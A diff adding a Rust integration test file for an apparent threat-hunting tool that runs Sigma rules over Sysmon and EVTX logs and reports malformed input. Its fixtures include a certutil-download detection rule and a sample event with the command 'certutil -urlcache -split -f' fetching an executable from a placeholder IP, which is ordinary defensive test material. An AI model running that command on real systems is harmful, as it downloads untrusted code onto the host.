@@ -1,0 +1,293 @@
+//! `watchpost rules check`, `watchpost hunt` and `watchpost eval sigma-regression` end to
+//! end, with the bad input a responder meets: broken rules, truncated EVTX files, binary
+//! files, missing paths. Tests that need the shared corpus (real EVTX files) skip without
+//! it locally and fail under CI=true.
+
+mod common;
+
+use common::run;
+use std::path::{Path, PathBuf};
+
+fn text(out: &[u8]) -> String {
+    String::from_utf8_lossy(out).into_owned()
+}
+
+const CERTUTIL_RULE: &str = r#"title: Certutil Download
+id: 7c9cf6a7-0000-4000-8000-000000000001
+level: high
+tags: [attack.command-and-control, attack.t1105]
+logsource: {product: windows, category: process_creation}
+detection:
+  selection:
+    Image|endswith: '\certutil.exe'
+    CommandLine|contains|all: ['urlcache', 'http']
+  condition: selection
+"#;
+
+fn rules_dir(dir: &Path) -> PathBuf {
+    let rules = dir.join("rules");
+    std::fs::create_dir_all(rules.join("sub")).unwrap();
+    std::fs::write(rules.join("certutil.yml"), CERTUTIL_RULE).unwrap();
+    std::fs::write(rules.join("sub/broken.yml"), "title: [unclosed\n").unwrap();
+    std::fs::write(
+        rules.join("sub/bad_modifier.yml"),
+        "title: x\nid: x\nlogsource: {product: windows}\ndetection:\n  sel:\n    Image|sometimes: a\n  condition: sel\n",
+    )
+    .unwrap();
+    rules
+}
+
+/// One Sysmon process creation rendered the way EVTX-to-JSON tools write it.
+fn sysmon_event(record: u64, command_line: &str) -> String {
+    serde_json::json!({"Event": {
+        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "ws-7",
+                   "EventRecordID": record, "TimeCreated": {"#attributes": {"SystemTime": "2026-11-20T08:00:00.000Z"}},
+                   "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}},
+        "EventData": {"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": command_line}
+    }})
+    .to_string()
+}
+
+#[test]
+fn rules_check_reports_every_failure_with_its_reason() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = rules_dir(dir.path());
+    let out = run(
+        dir.path(),
+        &["rules", "check", rules.to_str().unwrap(), "--json"],
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        (report["files"].as_u64(), report["loaded"].as_u64()),
+        (Some(3), Some(1))
+    );
+    let reasons: Vec<&str> = report["failed"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["reason"].as_str().unwrap())
+        .collect();
+    assert!(
+        reasons
+            .iter()
+            .any(|r| r
+                .contains("bad_modifier.yml:6: detection.sel.Image|sometimes: unknown modifier")),
+        "{reasons:?}"
+    );
+    assert!(
+        reasons
+            .iter()
+            .any(|r| r.contains("broken.yml") && r.contains("invalid YAML")),
+        "{reasons:?}"
+    );
+    let out = run(
+        dir.path(),
+        &[
+            "rules",
+            "check",
+            rules.to_str().unwrap(),
+            "--min-coverage",
+            "50",
+        ],
+    );
+    assert!(!out.status.success(), "1 of 3 is below 50 %");
+}
+
+#[test]
+fn hunt_reads_json_lines_reports_bad_files_and_writes_every_format() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = rules_dir(dir.path());
+    let logs = dir.path().join("logs");
+    std::fs::create_dir_all(&logs).unwrap();
+    let lines = [
+        sysmon_event(
+            41,
+            "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe",
+        ),
+        "{not json".to_string(),
+        sysmon_event(42, "certutil -encode a.txt b.txt"),
+    ];
+    std::fs::write(logs.join("sysmon.jsonl"), lines.join("\n")).unwrap();
+    std::fs::write(logs.join("garbage.json"), [0u8, 159, 146, 150, 255, 0, 1]).unwrap();
+
+    let csv = dir.path().join("out.csv");
+    let out = run(
+        dir.path(),
+        &[
+            "hunt",
+            logs.to_str().unwrap(),
+            "missing-folder",
+            "--rules",
+            rules.to_str().unwrap(),
+            "--format",
+            "csv",
+            "-o",
+            csv.to_str().unwrap(),
+        ],
+    );
+    assert!(
+        out.status.success(),
+        "bad input is reported, never fatal: {}",
+        text(&out.stderr)
+    );
+    let stderr = text(&out.stderr);
+    assert!(
+        stderr.contains("sysmon.jsonl: line 2: invalid JSON"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("garbage.json: line 1: not UTF-8 text"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("missing-folder: no such file or folder"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("Command and Control"),
+        "summary by tactic: {stderr}"
+    );
+    let written = std::fs::read_to_string(&csv).unwrap();
+    let rows: Vec<&str> = written.lines().collect();
+    assert_eq!(
+        rows[0],
+        "timestamp,rule_id,rule_title,level,tags,file,record_id,computer,fields"
+    );
+    assert_eq!(rows.len(), 2, "{written}");
+    assert!(rows[1].starts_with(
+        "2026-11-20T08:00:00.000Z,7c9cf6a7-0000-4000-8000-000000000001,Certutil Download,high,"
+    ));
+    assert!(
+        rows[1].contains(",41,ws-7,") && rows[1].contains("CommandLine=certutil -urlcache"),
+        "{}",
+        rows[1]
+    );
+
+    let out = run(
+        dir.path(),
+        &[
+            "hunt",
+            logs.to_str().unwrap(),
+            "--rules",
+            rules.to_str().unwrap(),
+            "--format",
+            "jsonl",
+        ],
+    );
+    let row: serde_json::Value =
+        serde_json::from_str(text(&out.stdout).lines().next().unwrap()).unwrap();
+    assert_eq!(row["record_id"], 41);
+    assert_eq!(row["tags"][1], "attack.t1105");
+    assert_eq!(
+        row["fields"]["Image"],
+        "C:\\Windows\\System32\\certutil.exe"
+    );
+
+    let out = run(
+        dir.path(),
+        &[
+            "hunt",
+            logs.to_str().unwrap(),
+            "--rules",
+            rules.to_str().unwrap(),
+            "--format",
+            "json",
+            "--min-level",
+            "critical",
+        ],
+    );
+    assert_eq!(text(&out.stdout).trim(), "[]");
+    let out = run(
+        dir.path(),
+        &[
+            "hunt",
+            logs.to_str().unwrap(),
+            "--rules",
+            rules.to_str().unwrap(),
+            "--format",
+            "json",
+            "--from",
+            "2026-11-21T00:00:00Z",
+        ],
+    );
+    assert_eq!(text(&out.stdout).trim(), "[]");
+}
+
+/// The shared corpus, or `None` (skip) when it is absent outside CI.
+fn corpus() -> Option<PathBuf> {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus");
+    if path.is_dir() {
+        return Some(path);
+    }
+    assert!(
+        std::env::var("CI").is_err(),
+        "../shared/corpus is missing under CI"
+    );
+    eprintln!("skipped: ../shared/corpus is not beside the checkout");
+    None
+}
+
+#[test]
+fn a_truncated_evtx_file_is_read_as_far_as_it_goes() {
+    let Some(corpus) = corpus() else { return };
+    let dir = tempfile::tempdir().unwrap();
+    let source = corpus.join("evtx/Command_and_Control/bits_openvpn.evtx");
+    let bytes = std::fs::read(&source).unwrap();
+    // The 4 KiB file header, one whole 64 KiB chunk, and half of the next.
+    let cut = (4096 + 65536 + 32768).min(bytes.len() - 1);
+    std::fs::write(dir.path().join("cut.evtx"), &bytes[..cut]).unwrap();
+    std::fs::write(dir.path().join("not-evtx.evtx"), b"plain text, not a log").unwrap();
+    let out = run(
+        dir.path(),
+        &[
+            "hunt",
+            ".",
+            "--rules",
+            dir.path().to_str().unwrap(),
+            "--format",
+            "json",
+        ],
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let stderr = text(&out.stderr);
+    assert!(
+        stderr.contains("not-evtx.evtx: not an EVTX file"),
+        "{stderr}"
+    );
+    let events: u64 = stderr
+        .lines()
+        .find_map(|l| l.split(" events from ").next().and_then(|n| n.parse().ok()))
+        .unwrap_or_else(|| panic!("{stderr}"));
+    assert!(events > 0, "the records before the cut are read: {stderr}");
+}
+
+#[test]
+fn sigma_regression_cases_pass_on_a_copy_of_one_case() {
+    let Some(corpus) = corpus() else { return };
+    let dir = tempfile::tempdir().unwrap();
+    let case = "regression_data/rules/windows/process_creation/proc_creation_win_susp_cross_user_process_spawn";
+    let rule = "rules/windows/process_creation/proc_creation_win_susp_cross_user_process_spawn.yml";
+    for rel in [case, "rules/windows/process_creation"] {
+        std::fs::create_dir_all(dir.path().join(rel)).unwrap();
+    }
+    for entry in std::fs::read_dir(corpus.join("sigma").join(case))
+        .unwrap()
+        .flatten()
+    {
+        std::fs::copy(entry.path(), dir.path().join(case).join(entry.file_name())).unwrap();
+    }
+    std::fs::copy(corpus.join("sigma").join(rule), dir.path().join(rule)).unwrap();
+    let out = run(
+        dir.path(),
+        &[
+            "eval",
+            "sigma-regression",
+            dir.path().to_str().unwrap(),
+            "--json",
+        ],
+    );
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let last = text(&out.stdout).lines().last().unwrap().to_string();
+    assert_eq!(last, r#"{"cases":1,"passed":1}"#, "{}", text(&out.stdout));
+}
